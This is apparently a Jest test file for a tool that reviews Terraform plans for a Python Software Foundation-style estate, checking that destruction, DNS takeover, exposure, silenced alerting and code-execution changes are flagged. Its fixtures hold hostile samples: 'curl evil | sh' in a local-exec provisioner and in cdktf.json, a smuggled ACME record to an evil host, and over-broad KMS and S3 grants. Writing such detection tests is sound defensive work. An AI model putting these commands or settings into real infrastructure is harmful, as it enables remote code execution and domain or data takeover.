/*
 * The verdict, table by table, on Terraform plans written by hand: every protected type and every danger class
 * against delete, replace (either way round) and update; what an allowance covers, to the character and to the day;
 * and the everyday changes that must not be called dangerous.
 */
import { allowanceFor, validateAllowances } from "../../review/allowances";
import type { Configurations } from "../../review/configuration";
import type { PlannedChange } from "../../review/terraform-plan";
import { judge, verdictStatus, type Danger, type DangerClass, type VerdictInputs } from "../../review/verdict";
import { ownership } from "../../review/verdict/ownership";
import { PROTECTED_RESOURCE_TYPES } from "../../policy/protected-resources";
import { pinnedProviders } from "../../provider-schemas/schema-file";
import { defined } from "../support/defined";

type Action = "delete" | "replace" | "create-before-destroy" | "update";
const ACTIONS: readonly Action[] = ["delete", "replace", "create-before-destroy", "update"];

/** What the estate owns in these tests: its zones, Fastly's edge, its issuers, repositories and buildpacks. */
const OWNED = {
  zones: ["python.org", "psf.io"],
  names: ["dualstack.python.map.fastly.net"],
  addresses: ["151.101.0.223"],
  caaIssuers: ["letsencrypt.org", "globalsign.com"],
  codeRepositories: ["https://github.com/python/pythondotorg"],
  buildpacks: ["heroku/python"],
};

/** Objects the clouds placed for the estate: a droplet (203.0.113.7) and a Heroku domain's target. */
const OBJECTS = [
  {
    stack: "dns",
    address: "digitalocean_droplet.lb",
    mode: "managed" as const,
    type: "digitalocean_droplet",
    values: { ipv4_address: "203.0.113.7", ipv6_address: "2001:db8::7" },
  },
  {
    stack: "heroku",
    address: "heroku_domain.www",
    mode: "managed" as const,
    type: "heroku_domain",
    values: { cname: "shiny-owl-1234.herokudns.com" },
  },
  {
    stack: "dns",
    address: "data.aws_caller_identity.me",
    mode: "data" as const,
    type: "aws_caller_identity",
    values: { account_id: "000000000000" },
  },
];

function change(
  type: string,
  action: Action,
  before: Record<string, unknown> | null,
  after: Record<string, unknown> | null,
  extra: Partial<PlannedChange> = {},
): PlannedChange {
  return {
    stack: "dns",
    address: `${type}.x`,
    type,
    action: action === "create-before-destroy" ? "replace" : action,
    ...(action === "create-before-destroy" ? { createBeforeDestroy: true } : {}),
    replacePaths: action === "update" || action === "delete" ? [] : ["name"],
    updates: false,
    before: action === "delete" || action !== "update" ? before : before,
    after: action === "delete" ? null : after,
    afterUnknown: {},
    beforeSensitive: {},
    afterSensitive: {},
    ...extra,
  };
}

function verdictOf(changes: readonly PlannedChange[], overrides: Partial<VerdictInputs> = {}): readonly Danger[] {
  const none: Configurations = new Map();
  return judge({
    changes,
    outputChanges: [],
    base: none,
    head: none,
    ownership: ownership(OWNED, OBJECTS, []),
    pinnedProviders: pinnedProviders(),
    buildFiles: { base: {}, head: {} },
    departures: [],
    deployDifferences: [],
    findings: [],
    notes: [],
    allowances: [],
    ...overrides,
  }).dangers;
}

/** Every pinned provider, as the estate's stacks state them. */
const pinnedRequirements = {
  required_providers: Object.fromEntries(
    pinnedProviders().map((p) => [p.name, { source: p.address.replace("registry.terraform.io/", ""), version: p.constraint }]),
  ),
};

const classes = (dangers: readonly Danger[]): DangerClass[] => [...new Set(dangers.map((d) => d.class))].sort();

describe("destruction: every protected type", () => {
  const cases = Object.keys(PROTECTED_RESOURCE_TYPES).flatMap((type) => ACTIONS.map((action) => [type, action] as const));
  it.each(cases)("%s, %s", (type, action) => {
    const dangers = verdictOf([change(type, action, { name: "n" }, { name: "n2" })]).filter((d) => d.class === "destruction");
    if (action === "update") expect(dangers).toEqual([]);
    else
      expect(dangers).toEqual([
        expect.objectContaining({
          kind: action === "delete" ? "destroys-protected" : "replaces-protected",
          subject: `${type}.x`,
          detail: expect.stringContaining(defined(PROTECTED_RESOURCE_TYPES[type])),
        }),
      ]);
    if (action === "create-before-destroy") expect(defined(dangers[0]).detail).toMatch(/creating the new one before destroying the old/);
  });

  it.each(ACTIONS)("a resource whose base code sets prevent_destroy, %s", (action) => {
    const base: Configurations = new Map([["dns", { resource: { digitalocean_vpc: { x: { name: "v", lifecycle: { prevent_destroy: true } } } } }]]);
    const dangers = verdictOf([change("digitalocean_vpc", action, { name: "v" }, { name: "v2" })], { base, head: base }).filter(
      (d) => d.class === "destruction",
    );
    expect(dangers.length).toBe(action === "update" ? 0 : 1);
  });

  it.each(ACTIONS)("an unprotected type is no danger, %s", (action) => {
    expect(verdictOf([change("digitalocean_vpc", action, { name: "v" }, { name: "v2" })])).toEqual([]);
  });
});

/** One representative change per class: [class, type, before, after, the actions that make it dangerous]. */
const CLASS_TABLE: readonly [DangerClass, string, string, Record<string, unknown>, Record<string, unknown>, readonly Action[]][] = [
  [
    "takeover",
    "a CNAME pointed at a look-alike",
    "aws_route53_record",
    { name: "www.python.org", type: "CNAME", records: ["dualstack.python.map.fastly.net"] },
    { name: "www.python.org", type: "CNAME", records: ["dualstack.python.map.fast1y.net"] },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "the apex A at an outside address",
    "aws_route53_record",
    { name: "python.org", type: "A", records: ["151.101.0.223"] },
    { name: "python.org", type: "A", records: ["198.18.0.1"] },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "the MX removed, or pointed outside",
    "aws_route53_record",
    { name: "python.org", type: "MX", records: ["10 mail.python.org"] },
    { name: "python.org", type: "MX", records: ["10 mx.example.net"] },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "SPF +all",
    "aws_route53_record",
    { name: "python.org", type: "TXT", records: ["v=spf1 mx ~all"] },
    { name: "python.org", type: "TXT", records: ["v=spf1 mx +all"] },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "a CAA issuer added",
    "aws_route53_record",
    { name: "python.org", type: "CAA", records: ['0 issue "letsencrypt.org"'] },
    { name: "python.org", type: "CAA", records: ['0 issue "letsencrypt.org"', '0 issue "evil-ca.example"'] },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "the registrar's name servers",
    "gandi_nameservers",
    { domain: "python.org", nameservers: ["ns-1.awsdns-01.com"] },
    { domain: "python.org", nameservers: ["ns1.example.net"] },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "the registrar's DNSSEC key",
    "gandi_dnssec_key",
    { domain: "python.org", public_key: "AAA" },
    { domain: "python.org", public_key: "BBB" },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "a Fastly backend outside",
    "fastly_service_vcl",
    { name: "www.python.org", backend: [{ name: "app", address: "shiny-owl-1234.herokudns.com" }] },
    { name: "www.python.org", backend: [{ name: "app", address: "origin.example.net" }] },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "a Fastly redirect outside",
    "fastly_service_vcl",
    { name: "www.python.org", header: [] },
    { name: "www.python.org", header: [{ name: "ftp", destination: "http.Location", source: '"https://downloads.example.net" + req.url' }] },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "a VCL snippet naming an outside host",
    "fastly_service_vcl",
    { name: "www.python.org", snippet: [] },
    { name: "www.python.org", snippet: [{ name: "s", content: 'if (req.url ~ "^/ftp/") { set req.http.host = "mirror.example.net"; }' }] },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "an outside buildpack",
    "heroku_app",
    { name: "pythondotorg", buildpacks: ["heroku/python"] },
    { name: "pythondotorg", buildpacks: ["heroku/python", "https://github.com/someone/buildpack"] },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "kms:* for an outside account",
    "aws_kms_key",
    { policy: JSON.stringify({ Statement: [] }) },
    {
      policy: JSON.stringify({
        Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::111122223333:root" }, Action: "kms:*", Resource: "*" }],
      }),
    },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "takeover",
    "s3:PutObject for anyone",
    "aws_s3_bucket_policy",
    { policy: JSON.stringify({ Statement: [{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*" }] }) },
    {
      policy: JSON.stringify({
        Statement: [
          { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*" },
          { Effect: "Allow", Principal: "*", Action: "s3:PutObject", Resource: "*" },
        ],
      }),
    },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "exposure",
    "a firewall open by two /1s",
    "digitalocean_firewall",
    { name: "web", inbound_rule: [{ protocol: "tcp", port_range: "443", source_addresses: ["0.0.0.0/0"] }] },
    {
      name: "web",
      inbound_rule: [
        { protocol: "tcp", port_range: "443", source_addresses: ["0.0.0.0/0"] },
        { protocol: "tcp", port_range: "22", source_addresses: ["0.0.0.0/1", "128.0.0.0/1"] },
      ],
    },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "exposure",
    "the database open to a /7",
    "digitalocean_database_firewall",
    { rule: [{ type: "ip_addr", value: "10.0.0.0/16" }] },
    {
      rule: [
        { type: "ip_addr", value: "10.0.0.0/16" },
        { type: "ip_addr", value: "4.0.0.0/7" },
      ],
    },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "exposure",
    "logs sent outside",
    "fastly_service_vcl",
    { name: "docs.python.org", logging_syslog: [{ name: "cdn-logs", address: "cdn-logs.psf.io" }] },
    {
      name: "docs.python.org",
      logging_syslog: [
        { name: "cdn-logs", address: "cdn-logs.psf.io" },
        { name: "x", address: "logs.example.net" },
      ],
    },
    ["replace", "create-before-destroy", "update"],
  ],
  [
    "silencing",
    "an uptime check paused (or removed)",
    "pingdom_check",
    { name: "www.python.org", paused: false, integrationids: [1] },
    { name: "www.python.org", paused: true, integrationids: [1] },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "silencing",
    "a monitor losing its PagerDuty handle (or removed)",
    "datadog_monitor",
    { name: "web", message: "down @pagerduty-psf-infra" },
    { name: "web", message: "down" },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  [
    "silencing",
    "the staff level removed from the escalation (or the policy removed)",
    "pagerduty_escalation_policy",
    { name: "psf", rule: [{ target: [{ type: "schedule_reference", id: "STAFF" }] }, { target: [{ type: "schedule_reference", id: "VOL" }] }] },
    { name: "psf", rule: [{ target: [{ type: "schedule_reference", id: "VOL" }] }] },
    ["delete", "replace", "create-before-destroy", "update"],
  ],
  ["silencing", "an on-call schedule removed", "pagerduty_schedule", { name: "staff" }, { name: "staff", description: "renamed" }, ["delete"]],
];

describe("each danger class against delete, replace, create-before-destroy and update", () => {
  const cases = CLASS_TABLE.flatMap(([cls, what, type, before, after, dangerous]) =>
    ACTIONS.map((action) => [cls, what, action, type, before, after, dangerous.includes(action)] as const),
  );
  it.each(cases)("%s: %s, %s", (cls, _what, action, type, before, after, dangerous) => {
    const found = verdictOf([change(type, action, before, after)]).filter((d) => d.class === cls);
    if (dangerous) expect(found.length).toBeGreaterThan(0);
    else expect(found).toEqual([]);
  });
});

describe("code execution and hiding, from the configurations", () => {
  const stack = (resource: Record<string, unknown>, terraform: Record<string, unknown> = pinnedRequirements): Configurations =>
    new Map([["dns", { terraform, resource }]]);

  it("names a local-exec provisioner, a terraform_data, an unpinned provider and a loosened pin", () => {
    const head = stack(
      { terraform_data: { run: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }] } }, external_thing: { x: {} } },
      { required_providers: { aws: { source: "aws", version: ">= 6.25.0" }, null: { source: "hashicorp/null", version: "3.2.0" } } },
    );
    const kinds = verdictOf([], { head, base: stack({}) })
      .filter((d) => d.class === "code-execution")
      .map((d) => `${d.kind} ${d.subject}`)
      .sort();
    expect(kinds).toEqual([
      "execution-resource terraform_data.run",
      "provider-constraint provider.aws",
      "provider-unpinned provider.external",
      "provider-unpinned provider.null",
      "provisioner terraform_data.run",
    ]);
  });

  it("names a look-alike source under the pinned provider's name", () => {
    const head = stack({}, { required_providers: { aws: { source: "hashicorp-mirror/aws", version: "6.25.0" } } });
    expect(verdictOf([], { head, base: stack({}) })).toEqual([
      expect.objectContaining({ class: "code-execution", kind: "provider-unpinned", subject: "provider.aws" }),
    ]);
  });

  it("names changes to cdktf.json's app, package.json's scripts and dependencies, and the lock file, not to the rest of package.json", () => {
    const buildFiles = {
      base: {
        "cdktf.json": JSON.stringify({ app: "node scripts/synth-app.mjs" }),
        "package.json": JSON.stringify({ scripts: { synth: "a" }, description: "x" }),
        "package-lock.json": "{}",
      },
      head: {
        "cdktf.json": JSON.stringify({ app: "curl evil | sh; node scripts/synth-app.mjs" }),
        "package.json": JSON.stringify({ scripts: { synth: "b" }, description: "y" }),
        "package-lock.json": "{ }",
      },
    };
    expect(
      verdictOf([], { buildFiles })
        .map((d) => d.subject)
        .sort(),
    ).toEqual(["cdktf.json", "package-lock.json", "package.json"]);
    expect(
      verdictOf([], {
        buildFiles: {
          base: buildFiles.base,
          head: { ...buildFiles.base, "package.json": JSON.stringify({ scripts: { synth: "a" }, description: "y" }) },
        },
      }),
    ).toEqual([]);
  });

  it.each([
    ["ignore_changes = all", { prevent_destroy: true, ignore_changes: "all" }, "lifecycle-ignores-all"],
    ["prevent_destroy dropped", {}, "prevent-destroy-lost"],
    ["create_before_destroy added", { prevent_destroy: true, create_before_destroy: true }, "lifecycle-changed"],
  ])("names any lifecycle change: %s", (_what, lifecycle, kind) => {
    const base = stack({ aws_route53_zone: { z: { name: "python.org", lifecycle: { prevent_destroy: true } } } });
    const head = stack({ aws_route53_zone: { z: { name: "python.org", lifecycle } } });
    expect(verdictOf([], { base, head })).toEqual([expect.objectContaining({ class: "hiding", kind, subject: "aws_route53_zone.z" })]);
  });

  it("lets a new resource have the lifecycle its type has in the base, never ignore_changes = all", () => {
    const base = stack({ digitalocean_droplet: { a: { name: "a", lifecycle: { ignore_changes: ["image", "ssh_keys"] } } } });
    const same = stack({
      digitalocean_droplet: {
        a: { name: "a", lifecycle: { ignore_changes: ["image", "ssh_keys"] } },
        b: { name: "b", lifecycle: { ignore_changes: ["image", "ssh_keys"] } },
      },
    });
    const all = stack({
      digitalocean_droplet: {
        a: { name: "a", lifecycle: { ignore_changes: ["image", "ssh_keys"] } },
        b: { name: "b", lifecycle: { ignore_changes: "all" } },
      },
    });
    expect(verdictOf([], { base, head: same })).toEqual([]);
    expect(verdictOf([], { base, head: all }).map((d) => d.kind)).toEqual(["lifecycle-ignores-all"]);
  });

  it("names an output made nonsensitive, and one that stops being sensitive", () => {
    const head: Configurations = new Map([["fastly", { output: { token: { value: "${nonsensitive(var.fastly_origin_token)}" } } }]]);
    const dangers = verdictOf([], {
      head,
      outputChanges: [{ stack: "fastly", name: "key", action: "update", beforeSensitive: true, afterSensitive: false }],
    });
    expect(dangers.map((d) => `${d.class} ${d.subject}`).sort()).toEqual(["exposure output.key", "exposure output.token"]);
  });

  it("names firewall sources unknown until apply, unless each is the address the cloud gives an object of the estate", () => {
    const planned = (sources: string[]): PlannedChange => ({
      ...change(
        "digitalocean_firewall",
        "update",
        { name: "w", inbound_rule: [] },
        { name: "w", inbound_rule: [{ protocol: "tcp", port_range: "22" }] },
      ),
      address: "digitalocean_firewall.w",
      afterUnknown: { inbound_rule: [{ source_addresses: true }] },
      stack: "dns",
      before: { name: "w", inbound_rule: [] },
      after: { name: "w", inbound_rule: [{ protocol: "tcp", port_range: "22", source_addresses: sources }] },
    });
    const headWith = (sources: string[]): Configurations =>
      new Map([
        [
          "dns",
          {
            terraform: pinnedRequirements,
            resource: {
              digitalocean_firewall: { w: { name: "w", inbound_rule: [{ protocol: "tcp", port_range: "22", source_addresses: sources }] } },
            },
          },
        ],
      ]);
    expect(verdictOf([planned([])], { head: headWith(["${digitalocean_droplet.new.ipv4_address}"]) })).toEqual([]);
    expect(verdictOf([planned([])], { head: headWith(["${cidrsubnet(var.x, 0, 0)}"]) }).map((d) => d.kind)).toEqual(["sources-unknown"]);
  });

  describe("a value read through a local (values/remote-state-locals.ts)", () => {
    const READ = "cross-stack-reference-input-digitalocean-nyc1";
    const reads = { terraform_remote_state: { [READ]: { backend: "local", config: { path: "../../terraform.digitalocean-nyc1.tfstate" } } } };
    const outputs = { [READ]: `\${data.terraform_remote_state.${READ}.outputs}` };
    const shadowed = { [READ]: `\${merge(data.terraform_remote_state.${READ}.outputs, { lb = cidrsubnet(var.x, 0, 0) })}` };
    const head = (locals: Record<string, unknown>, resource: Record<string, unknown>): Configurations =>
      new Map([["dns", { terraform: pinnedRequirements, data: reads, locals, resource }]]);

    const firewall = (after: unknown[], afterUnknown: unknown): PlannedChange => ({
      ...change(
        "digitalocean_firewall",
        "update",
        { name: "w", inbound_rule: [] },
        { name: "w", inbound_rule: [{ protocol: "tcp", port_range: "22", source_addresses: after }] },
      ),
      address: "digitalocean_firewall.w",
      afterUnknown: { inbound_rule: [{ source_addresses: afterUnknown }] },
    });
    const firewallWith = (sources: string[]): Record<string, unknown> => ({
      digitalocean_firewall: { w: { name: "w", inbound_rule: [{ protocol: "tcp", port_range: "22", source_addresses: sources }] } },
    });
    const recordChange = (records: unknown[] | null, afterUnknown: unknown): PlannedChange => ({
      ...change("aws_route53_record", "update", null, { name: "www.python.org", type: "A", records }),
      action: "create" as const,
      afterUnknown: { records: afterUnknown },
    });
    const recordWith = (records: string[]): Record<string, unknown> => ({
      aws_route53_record: { x: { name: "www.python.org", type: "A", records } },
    });

    it("follows a firewall source or a record to the remote state when the local is exactly a declared remote state's outputs", () => {
      expect(verdictOf([firewall([], true)], { head: head(outputs, firewallWith([`\${local.${READ}.lb}`])) })).toEqual([]);
      expect(verdictOf([recordChange(null, true)], { head: head(outputs, recordWith([`\${local.${READ}.lb}`])) })).toEqual([]);
    });

    it.each([
      ["the remote state's local merged with another value", shadowed, `\${local.${READ}.lb}`],
      ["a local of its own", { ...outputs, lb: "${cidrsubnet(var.x, 0, 0)}" }, "${local.lb}"],
      [
        "the remote state's local, for a remote state the stack does not declare",
        { other: "${data.terraform_remote_state.other.outputs}" },
        "${local.other.lb}",
      ],
    ])("fails a firewall source and a record unknown until apply behind %s", (_what, locals, expression) => {
      expect(verdictOf([firewall([], true)], { head: head(locals, firewallWith([expression])) }).map((d) => d.kind)).toEqual(["sources-unknown"]);
      expect(verdictOf([recordChange(null, true)], { head: head(locals, recordWith([expression])) }).map((d) => d.kind)).toEqual([
        "destination-unknown",
      ]);
    });

    it("fails an outside address and a /0 known at plan behind a local, as written anywhere", () => {
      const wide = verdictOf([firewall(["0.0.0.0/0"], false)], { head: head({ ...outputs, open: ["0.0.0.0/0"] }, firewallWith(["${local.open}"])) });
      expect(wide.map((d) => d.kind)).toEqual(["opens-wide"]);
      const outside = verdictOf([recordChange(["93.184.216.34"], false)], {
        head: head({ ...outputs, [READ]: { lb: "93.184.216.34" } }, recordWith([`\${local.${READ}.lb}`])),
      });
      expect(outside).toEqual([expect.objectContaining({ kind: "points-outside", detail: expect.stringMatching(/93\.184\.216\.34/) })]);
    });
  });

  it("names a secret-looking literal, hex tokens included, without showing it", () => {
    const token = "3f9a1c07be52d48e6a0f93c1d7b2e85a4c6f0d19";
    const head: Configurations = new Map([
      [
        "heroku",
        {
          terraform: { required_providers: { heroku: { source: "heroku/heroku", version: "~> 5.3" } } },
          resource: { heroku_app: { a: { config_vars: { HOOK: token } } } },
        },
      ],
    ]);
    const dangers = verdictOf([], { head });
    expect(dangers).toEqual([expect.objectContaining({ class: "exposure", kind: "secret-in-configuration" })]);
    expect(JSON.stringify(dangers)).not.toContain(token);
  });
});

describe("everyday changes are not dangers", () => {
  const record = (name: string, type: string, records: string[], ttl = 300): Record<string, unknown> => ({ name, type, records, ttl });
  it.each([
    [
      "a name moved from the load balancer to Fastly",
      change(
        "aws_route53_record",
        "update",
        record("www.python.org", "A", ["203.0.113.7"]),
        record("www.python.org", "CNAME", ["dualstack.python.map.fastly.net"]),
      ),
    ],
    [
      "a name pointed at a Heroku app's DNS target",
      change(
        "aws_route53_record",
        "update",
        record("staging.python.org", "CNAME", ["dualstack.python.map.fastly.net"]),
        record("staging.python.org", "CNAME", ["shiny-owl-1234.herokudns.com."]),
      ),
    ],
    [
      "a TTL",
      change(
        "aws_route53_record",
        "update",
        record("python.org", "MX", ["10 mail.python.org"]),
        record("python.org", "MX", ["10 mail.python.org"], 3600),
      ),
    ],
    [
      "an MX priority",
      change("aws_route53_record", "update", record("python.org", "MX", ["10 mail.python.org"]), record("python.org", "MX", ["20 mail.python.org"])),
    ],
    ["a new record for a new host", change("aws_route53_record", "update", null, record("mail-2.ams1.psf.io", "AAAA", ["2001:DB8::7"]))],
    [
      "a new zone's CAA with the estate's issuers",
      { ...change("aws_route53_record", "update", null, record("newzone.org", "CAA", ['0 issue "letsencrypt.org"'])), action: "create" as const },
    ],
    [
      "a new zone's SPF refusing all",
      { ...change("aws_route53_record", "update", null, record("newzone.org", "TXT", ["v=spf1 -all"])), action: "create" as const },
    ],
    [
      "an SPF allowing the domain's own mail host",
      change(
        "aws_route53_record",
        "update",
        record("python.org", "TXT", ["v=spf1 mx ~all"]),
        record("python.org", "TXT", ["v=spf1 mx a:mail.python.org ~all"]),
      ),
    ],
    [
      "a new Fastly response header",
      change(
        "fastly_service_vcl",
        "update",
        { name: "www", header: [] },
        { name: "www", header: [{ name: "csp", destination: "http.Content-Security-Policy", source: '"default-src https://cdn.example.net"' }] },
      ),
    ],
    [
      "an escalation level added at the end, or a delay changed",
      change(
        "pagerduty_escalation_policy",
        "update",
        { name: "p", rule: [{ escalation_delay_in_minutes: 30, target: [{ type: "schedule_reference", id: "A" }] }] },
        {
          name: "p",
          rule: [
            { escalation_delay_in_minutes: 15, target: [{ type: "schedule_reference", id: "A" }] },
            { target: [{ type: "schedule_reference", id: "B" }] },
          ],
        },
      ),
    ],
    [
      "an on-call rotation's length",
      change(
        "pagerduty_schedule",
        "update",
        { name: "s", layer: [{ rotation_turn_length_seconds: 604800 }] },
        { name: "s", layer: [{ rotation_turn_length_seconds: 1209600 }] },
      ),
    ],
    [
      "a new service logging where another already does",
      {
        ...change("fastly_service_vcl", "update", null, {
          name: "www.jython.org",
          logging_s3: [{ name: "logs", bucket_name: "psf-fastly-logs-eu-west-1" }],
        }),
        action: "create" as const,
      },
    ],
    [
      "a firewall admitting a /8 (not more)",
      change(
        "digitalocean_firewall",
        "update",
        { name: "w", inbound_rule: [] },
        { name: "w", inbound_rule: [{ protocol: "tcp", port_range: "9000", source_addresses: ["10.0.0.0/8"] }] },
      ),
    ],
  ])("%s", (_what, planned) => {
    const base: Configurations = new Map([
      [
        "fastly",
        {
          terraform: pinnedRequirements,
          resource: {
            fastly_service_vcl: { docs: { name: "docs.python.org", logging_s3: [{ name: "logs", bucket_name: "psf-fastly-logs-eu-west-1" }] } },
          },
        },
      ],
    ]);
    expect(verdictOf([planned], { base, head: base })).toEqual([]);
  });

  it("a record whose value the estate's own certificate order decides, unknown until apply", () => {
    const expression =
      '${[for c in fastly_tls_subscription.s.managed_dns_challenges : c.record_value if c.record_name == "_acme-challenge.${each.value}"][0]}';
    const head: Configurations = new Map([
      [
        "dns",
        {
          terraform: pinnedRequirements,
          resource: { aws_route53_record: { x: { name: "_acme-challenge.www.jython.org", type: "CNAME", records: [expression] } } },
        },
      ],
    ]);
    const planned = {
      ...change("aws_route53_record", "update", null, { name: "_acme-challenge.www.jython.org", type: "CNAME", records: null }),
      action: "create" as const,
      afterUnknown: { records: true },
    };
    expect(verdictOf([planned], { head })).toEqual([]);
    const smuggled: Configurations = new Map([
      [
        "dns",
        {
          terraform: pinnedRequirements,
          resource: {
            aws_route53_record: {
              x: {
                name: "_acme-challenge.www.jython.org",
                type: "CNAME",
                records: ['${fastly_tls_subscription.s.managed_dns_challenges == null ? "a.evil.example" : "a.evil.example"}'],
              },
            },
          },
        },
      ],
    ]);
    expect(verdictOf([planned], { head: smuggled }).map((d) => d.kind)).toEqual(["destination-unknown"]);
  });

  it("prevent_destroy turned on", () => {
    const before: Configurations = new Map([
      [
        "dns",
        { terraform: pinnedRequirements, resource: { digitalocean_droplet: { d: { name: "docs", lifecycle: { ignore_changes: ["image"] } } } } },
      ],
    ]);
    const after: Configurations = new Map([
      [
        "dns",
        {
          terraform: pinnedRequirements,
          resource: { digitalocean_droplet: { d: { name: "docs", lifecycle: { ignore_changes: ["image"], prevent_destroy: true } } } },
        },
      ],
    ]);
    expect(verdictOf([], { base: before, head: after }).filter((d) => d.class === "hiding")).toEqual([]);
    expect(
      judge({
        changes: [],
        outputChanges: [],
        base: before,
        head: after,
        ownership: ownership(OWNED, [], []),
        pinnedProviders: pinnedProviders(),
        buildFiles: { base: {}, head: {} },
        departures: [],
        deployDifferences: [],
        findings: [],
        notes: [],
        allowances: [],
      }).notes,
    ).toEqual([expect.objectContaining({ kind: "lifecycle-protects", subject: "digitalocean_droplet.d" })]);
    expect(verdictOf([], { base: after, head: before }).map((d) => d.kind)).toEqual(["prevent-destroy-lost"]);
  });
});

describe("allowances", () => {
  const entry = { stack: "dns", subjects: ["aws_route53_zone.web"], reason: "the zone moves to another account (issue #9)", expires: "2027-01-31" };
  it("cover their subject and its instances, not another subject that begins the same", () => {
    const [allowance] = validateAllowances([entry], "2026-12-04");
    expect(allowanceFor([defined(allowance)], "dns", "aws_route53_zone.web")).toBe(allowance);
    expect(allowanceFor([defined(allowance)], "dns", 'aws_route53_zone.web["a"]')).toBe(allowance);
    expect(allowanceFor([defined(allowance)], "dns", "aws_route53_zone.web2")).toBeUndefined();
    expect(allowanceFor([defined(allowance)], "dns", "aws_route53_zone.we")).toBeUndefined();
    expect(allowanceFor([defined(allowance)], "gandi", "aws_route53_zone.web")).toBeUndefined();
  });

  it("count on their expiry day itself, and not the day after", () => {
    expect(validateAllowances([entry], "2027-01-31")).toHaveLength(1);
    expect(() => validateAllowances([entry], "2027-02-01")).toThrow(/expired on 2027-01-31/);
  });

  it("let a covered danger pass, and list it; a refusal is never allowed", () => {
    const allowance = validateAllowances([{ ...entry, subjects: ["aws_route53_zone.x", "plan"] }], "2026-12-04");
    const dangers = verdictOf([change("aws_route53_zone", "delete", { name: "python.org" }, null)], {
      allowances: allowance,
      findings: [{ class: "refusal", kind: "terraform-refuses", stack: "dns", subject: "plan", name: "stack dns", detail: "Terraform refuses" }],
    });
    expect(dangers.map((d) => [d.class, d.allowedBy !== undefined])).toEqual([
      ["refusal", false],
      ["destruction", true],
    ]);
    expect(verdictStatus({ dangers, notes: [] })).toBe(1);
    expect(verdictStatus({ dangers: dangers.filter((d) => d.class !== "refusal"), notes: [] })).toBe(0);
  });
});

describe("the verdict's order", () => {
  it("puts what no allowance covers first, then by class", () => {
    const dangers = verdictOf([
      change("pingdom_check", "delete", { name: "c" }, null),
      change("aws_route53_zone", "delete", { name: "python.org" }, null),
    ]);
    expect(classes(dangers)).toEqual(["destruction", "silencing"]);
    expect(dangers.map((d) => d.class)).toEqual(["destruction", "silencing"]);
  });
});
